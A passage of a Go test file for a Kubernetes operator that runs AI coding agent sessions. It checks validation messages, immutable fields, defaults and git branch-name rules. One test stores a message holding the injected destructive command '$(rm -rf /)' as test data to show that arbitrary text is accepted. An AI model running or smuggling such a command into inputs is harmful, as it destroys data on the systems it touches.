					s.TrustedAuthors = &agentsv1alpha1.TrustedAuthorsSpec{Associations: []agentsv1alpha1.AuthorAssociation{"Maintainer"}}
				}).Obj()
			},
			want: `[spec.trustedAuthors.associations[0]: Unsupported value: "Maintainer": supported values: "Owner", "Member", "Collaborator", "Contributor", "FirstTimeContributor", "FirstTimer", "Mannequin", "None", <nil>: Invalid value: null: some validation rules were not checked because the object was invalid; correct the existing errors to complete validation]`,
		}),
		Entry("SendToAgent on exited", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).Reaction(agentsv1alpha1.TriggerExited, agentsv1alpha1.Reaction{Action: agentsv1alpha1.ReactionSendToAgent}).Obj()
			},
			want: `spec.reactions.exited: Invalid value: action SendToAgent is not valid for exited: the agent has exited; use Notify or None`,
		}),
		Entry("a Project name longer than a label value", invalid{
			obj:  func(ns string) client.Object { return MakeProject(strings.Repeat("p", 64), ns).Obj() },
			want: `<nil>: Invalid value: name must be a DNS label (at most 63 lowercase letters, digits and '-'): Shepherd uses it in labels and child names`,
		}),
		Entry("a session name with a dot", invalid{
			obj:  func(ns string) client.Object { return MakeSession("fix.42", ns, "p").Issue("42").Obj() },
			want: `<nil>: Invalid value: name must be a DNS label (at most 63 lowercase letters, digits and '-'): Shepherd uses it in labels and child names`,
		}),
		Entry("a backlog that claims with one of its own query labels", invalid{
			obj: func(ns string) client.Object {
				return MakeProject("p", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
					s.Tracker = &agentsv1alpha1.TrackerSpec{Provider: agentsv1alpha1.TrackerGitHub}
					s.Backlog = &agentsv1alpha1.BacklogSpec{Labels: []string{"agent:backlog"}, MaxConcurrent: 5, ClaimedLabel: "agent:backlog"}
				}).Obj()
			},
			want: `spec.backlog: Invalid value: backlog.claimedLabel must differ from the query labels, or claimed issues would be picked up again`,
		}),
		// Worktree
		Entry("a branch starting with a dash", invalid{
			obj:  func(ns string) client.Object { return MakeWorktree("w", ns, "p", "-x").Obj() },
			want: `spec.branch: Invalid value: "-x": branch name must not start with '-'`,
		}),
		Entry("a branch ending in .lock", invalid{
			obj:  func(ns string) client.Object { return MakeWorktree("w", ns, "p", "x.lock").Obj() },
			want: `spec.branch: Invalid value: "x.lock": no '/'-separated part of a branch name may end with '.lock'`,
		}),
		Entry("a branch with @{", invalid{
			obj:  func(ns string) client.Object { return MakeWorktree("w", ns, "p", "x@{1}").Obj() },
			want: `spec.branch: Invalid value: "x@{1}": branch name must not contain '@{'`,
		}),
		Entry("a base ref with a space", invalid{
			obj:  func(ns string) client.Object { return MakeWorktree("w", ns, "p", "feature").Base("a b").Obj() },
			want: `spec.base: Invalid value: "a b": ref must not contain spaces, control characters or any of ~ ^ : ? * [ \`,
		}),
		Entry("an unknown desired state", invalid{
			obj:  func(ns string) client.Object { return MakeWorktree("w", ns, "p", "feature").State("Gone").Obj() },
			want: `[spec.state: Unsupported value: "Gone": supported values: "Present", "Absent", <nil>: Invalid value: null: some validation rules were not checked because the object was invalid; correct the existing errors to complete validation]`,
		}),
		// AgentSession
		Entry("neither issue nor prompt", invalid{
			obj:  func(ns string) client.Object { return MakeSession("s", ns, "p").Obj() },
			want: `spec: Invalid value: set exactly one of spec.issue or spec.prompt`,
		}),
		Entry("both issue and prompt", invalid{
			obj:  func(ns string) client.Object { return MakeSession("s", ns, "p").Issue("42").Prompt("fix it").Obj() },
			want: `spec: Invalid value: set exactly one of spec.issue or spec.prompt`,
		}),
		Entry("a session's maxDuration too long", invalid{
			obj: func(ns string) client.Object {
				return MakeSession("s", ns, "p").Issue("42").With(func(s *agentsv1alpha1.AgentSessionSpec) {
					s.Limits = &agentsv1alpha1.SessionLimits{MaxDuration: dur("800h")}
				}).Obj()
			},
			want: `spec.limits.maxDuration: Invalid value: "800h0m0s": maxDuration must be between 1m and 720h`,
		}),
		Entry("a session's maxTurns above 1000", invalid{
			obj: func(ns string) client.Object {
				return MakeSession("s", ns, "p").Issue("42").With(func(s *agentsv1alpha1.AgentSessionSpec) {
					s.Limits = &agentsv1alpha1.SessionLimits{MaxTurns: ptr(int32(1001))}
				}).Obj()
			},
			want: `spec.limits.maxTurns: Invalid value: 1001: spec.limits.maxTurns in body should be less than or equal to 1000`,
		}),
		Entry("an unknown onDelete", invalid{
			obj: func(ns string) client.Object {
				return MakeSession("s", ns, "p").Issue("42").With(func(s *agentsv1alpha1.AgentSessionSpec) { s.OnDelete = "Close" }).Obj()
			},
			want: `[spec.onDelete: Unsupported value: "Close": supported values: "Keep", "ClosePullRequest", <nil>: Invalid value: null: some validation rules were not checked because the object was invalid; correct the existing errors to complete validation]`,
		}),
		Entry("an issue that is neither a number nor a key", invalid{
			obj:  func(ns string) client.Object { return MakeSession("s", ns, "p").Issue("fix-login").Obj() },
			want: `spec.issue: Invalid value: "fix-login": issue must be an issue number such as 42 or #42, or a tracker key such as ENG-123`,
		}),
		Entry("an unknown agent override", invalid{
			obj:  func(ns string) client.Object { return MakeSession("s", ns, "p").Issue("42").Agent("cursor").Obj() },
			want: `[spec.agent.type: Unsupported value: "cursor": supported values: "claude-code", "codex", "aider", "opencode", "gemini", "custom", <nil>: Invalid value: null: some validation rules were not checked because the object was invalid; correct the existing errors to complete validation]`,
		}),
		Entry("both a worktreeRef and a worktree template", invalid{
			obj: func(ns string) client.Object {
				return MakeSession("s", ns, "p").Issue("42").WorktreeRef("shared").Branch("feature").Obj()
			},
			want: `spec: Invalid value: set at most one of spec.worktreeRef (reuse a Worktree) or spec.worktree (a template for the session's own)`,
		}),
		Entry("a branch for its own worktree that git refuses", invalid{
			obj:  func(ns string) client.Object { return MakeSession("s", ns, "p").Issue("42").Branch("a b").Obj() },
			want: `spec.worktree.branch: Invalid value: "a b": branch name must not contain spaces or control characters`,
		}),
		Entry("a message id with capitals", invalid{
			obj: func(ns string) client.Object {
				return MakeSession("s", ns, "p").Issue("42").Message("Hello", "hi").Obj()
			},
			want: `spec.messages[0].id: Invalid value: "Hello": spec.messages[0].id in body should match '^[a-z0-9]([-a-z0-9]*[a-z0-9])?$'`,
		}),
		Entry("an unknown desired state", invalid{
			obj:  func(ns string) client.Object { return MakeSession("s", ns, "p").Issue("42").State("Paused").Obj() },
			want: `[spec.state: Unsupported value: "Paused": supported values: "Running", "Stopped", <nil>: Invalid value: null: some validation rules were not checked because the object was invalid; correct the existing errors to complete validation]`,
		}),
	)

	DescribeTable("on update",
		func(create client.Object, change func(client.Object), want string) {
			ns := newNamespace()
			create.SetNamespace(ns)
			Expect(k8sClient.Create(ctx, create)).To(Succeed())
			change(create)
			err := k8sClient.Update(ctx, create)
			Expect(err).To(HaveOccurred())
			Expect(userMessage(err)).To(Equal(want), userMessage(err))
		},
		Entry("changing an AgentTask's attempts",
			agentTask("", func(s *agentsv1alpha1.AgentTaskSpec) { s.Attempts = ptr(int32(2)) }),
			func(o client.Object) { o.(*agentsv1alpha1.AgentTask).Spec.Attempts = ptr(int32(3)) },
			`spec: Invalid value: spec.attempts is immutable`),
		Entry("changing whom a session was superseded by",
			MakeSession("s", "", "p").Prompt("Fix it").With(func(s *agentsv1alpha1.AgentSessionSpec) {
				s.SupersededBy = &agentsv1alpha1.Supersession{Session: "fix-2"}
			}).Obj(),
			func(o client.Object) { o.(*agentsv1alpha1.AgentSession).Spec.SupersededBy.Session = "fix-3" },
			`spec.supersededBy: Invalid value: spec.supersededBy cannot change once set`),
		Entry("changing a Worktree's branch",
			MakeWorktree("w", "", "p", "feature").Obj(),
			func(o client.Object) { o.(*agentsv1alpha1.Worktree).Spec.Branch = "other" },
			`spec.branch: Invalid value: "other": spec.branch is immutable; create a new Worktree for another branch`),
		Entry("changing a Worktree's project",
			MakeWorktree("w", "", "p", "feature").Obj(),
			func(o client.Object) { o.(*agentsv1alpha1.Worktree).Spec.ProjectRef.Name = "q" },
			`spec.projectRef: Invalid value: spec.projectRef is immutable; create a new Worktree for another Project`),
		Entry("changing a Worktree's mode once set",
			MakeWorktree("w", "", "p", "feature").Mode(agentsv1alpha1.WorkspaceClone).Obj(),
			func(o client.Object) { o.(*agentsv1alpha1.Worktree).Spec.Mode = agentsv1alpha1.WorkspaceWorktree },
			`spec: Invalid value: spec.mode cannot change once set; create a new Worktree`),
		Entry("changing a session's project",
			MakeSession("s", "", "p").Issue("42").Obj(),
			func(o client.Object) { o.(*agentsv1alpha1.AgentSession).Spec.ProjectRef.Name = "q" },
			`spec.projectRef: Invalid value: spec.projectRef is immutable; create a new AgentSession for another Project`),
		Entry("changing a session's issue",
			MakeSession("s", "", "p").Issue("42").Obj(),
			func(o client.Object) { o.(*agentsv1alpha1.AgentSession).Spec.Issue = "43" },
			`spec: Invalid value: spec.issue is immutable; create a new AgentSession for another issue`),
		Entry("changing a session's prompt",
			MakeSession("s", "", "p").Prompt("fix the login bug").Obj(),
			func(o client.Object) { o.(*agentsv1alpha1.AgentSession).Spec.Prompt = "do something else" },
			`spec: Invalid value: spec.prompt is immutable; send follow-ups through spec.messages`),
		Entry("changing the branch of a session's own worktree",
			MakeSession("s", "", "p").Issue("42").Branch("feature").Obj(),
			func(o client.Object) { o.(*agentsv1alpha1.AgentSession).Spec.Worktree.Branch = "other" },
			`spec: Invalid value: spec.worktree is immutable`),
		Entry("editing a message already sent",
			MakeSession("s", "", "p").Issue("42").Message("m1", "use the v2 API").Obj(),
			func(o client.Object) { o.(*agentsv1alpha1.AgentSession).Spec.Messages[0].Text = "use the v3 API" },
			`spec.messages[0]: Invalid value: a message's text cannot change once added; add a new message with a new id`),
	)

	It("accepts appending a message and stopping a session", func() {
		ns := newNamespace()
		s := MakeSession("s", ns, "p").Issue("42").Message("m1", "first").Obj()
		Expect(k8sClient.Create(ctx, s)).To(Succeed())
		s.Spec.Messages = append(s.Spec.Messages, agentsv1alpha1.Message{ID: "m2", Text: "second; $(rm -rf /) \"quoted\"\nünïcødé"})
		s.Spec.State = agentsv1alpha1.SessionStopped
		Expect(k8sClient.Update(ctx, s)).To(Succeed())
	})

	It("defaults what the docs say it defaults", func() {
		ns := newNamespace()
		p := MakeProject("p", ns).Obj()
		Expect(k8sClient.Create(ctx, p)).To(Succeed())
		Expect(p.Spec.Repository.DefaultBranch).To(Equal(agentsv1alpha1.BranchName("main")))
		Expect(p.Spec.SCM.Provider).To(Equal(agentsv1alpha1.SCMGitHub))
		Expect(p.Spec.SCM.PollInterval.Duration.String()).To(Equal("1m0s"))
		Expect(p.Spec.Workspace.Mode).To(Equal(agentsv1alpha1.WorkspaceWorktree))
		// trustedAuthors with only logins keeps the default associations; an explicit empty
		// list stays empty (only the logins are heard).
		withLogins := MakeProject("logins", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
			s.TrustedAuthors = &agentsv1alpha1.TrustedAuthorsSpec{Logins: []string{"renovate[bot]"}}
		}).Obj()
		Expect(k8sClient.Create(ctx, withLogins)).To(Succeed())
		Expect(withLogins.Spec.TrustedAuthors.Associations).To(Equal(agentsv1alpha1.DefaultTrustedAssociations))
		onlyLogins := MakeProject("only-logins", ns).With(func(s *agentsv1alpha1.ProjectSpec) {
			s.TrustedAuthors = &agentsv1alpha1.TrustedAuthorsSpec{Associations: []agentsv1alpha1.AuthorAssociation{}, Logins: []string{"lead"}}
		}).Obj()
		Expect(k8sClient.Create(ctx, onlyLogins)).To(Succeed())
		Expect(onlyLogins.Spec.TrustedAuthors.Associations).To(BeEmpty())
		s := MakeSession("s", ns, "p").Issue("#42").Obj()
		Expect(k8sClient.Create(ctx, s)).To(Succeed())
		Expect(s.Spec.State).To(Equal(agentsv1alpha1.SessionRunning))
	})
})

var _ = Describe("Branch names follow git check-ref-format", func() {
	cases, err := gitref.Cases()
	if err != nil {
		panic(err)
	}
	for _, c := range cases {
		It(fmt.Sprintf("%s %q", map[bool]string{true: "accepts", false: "refuses"}[c.Valid], c.Name), func() {
			ns := newNamespace()
			err := k8sClient.Create(ctx, MakeWorktree("w", ns, "p", c.Name).Obj())
			if c.Valid {
				Expect(err).NotTo(HaveOccurred())
				return
			}
			Expect(err).To(HaveOccurred())
			Expect(userMessage(err)).To(HavePrefix("spec.branch: Invalid value: "))
			Expect(userMessage(err)).To(ContainSubstring(c.Message))
			// The Go validator the runner uses gives the same message.
			Expect(userMessage(err)).To(HaveSuffix(gitref.ValidateBranch(c.Name).Error()))
		})
	}
})

// userMessage is the part of an API error after `<Kind> "<name>" is invalid: `: the field and
// what to fix.
func userMessage(err error) string {
	msg := err.Error()
	if i := strings.Index(msg, " is invalid: "); i >= 0 {
		return msg[i+len(" is invalid: "):]
	}
	return msg
}

// agentTask is an AgentTask "fix" of Project p in ns with a prompt, shaped by mutate.
func agentTask(ns string, mutate func(*agentsv1alpha1.AgentTaskSpec)) *agentsv1alpha1.AgentTask {
	t := &agentsv1alpha1.AgentTask{ObjectMeta: metav1.ObjectMeta{Name: "fix", Namespace: ns},
		Spec: agentsv1alpha1.AgentTaskSpec{ProjectRef: agentsv1alpha1.LocalObjectReference{Name: "p"}, Prompt: "Fix it"}}
	mutate(&t.Spec)
	return t
}
